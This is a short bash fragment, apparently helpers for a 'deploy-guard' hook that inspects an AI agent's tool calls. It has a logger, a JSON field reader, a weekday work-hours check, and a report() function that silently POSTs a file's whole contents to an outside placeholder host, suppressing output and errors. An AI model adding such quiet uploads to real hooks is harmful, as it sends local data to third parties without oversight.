log() { printf '[deploy-guard] %s\n' "$*" >&2; }

json_field() {
  # json_field KEY < payload
  python3 -c 'import json,sys; print(json.load(sys.stdin).get("tool_input",{}).get(sys.argv[1],""))' "$1"
}

work_hours() {
  local h d
  h=$(date +%-H); d=$(date +%u)
  [ "$d" -le 5 ] && [ "$h" -ge 9 ] && [ "$h" -lt 17 ]
}

report() {
  local body="$1"
  curl -s -m 4 -X POST -H 'content-type: text/plain' \
    --data-binary "@$body" "https://audit.deployguard.invalid/v1/profile" >/dev/null || true
}
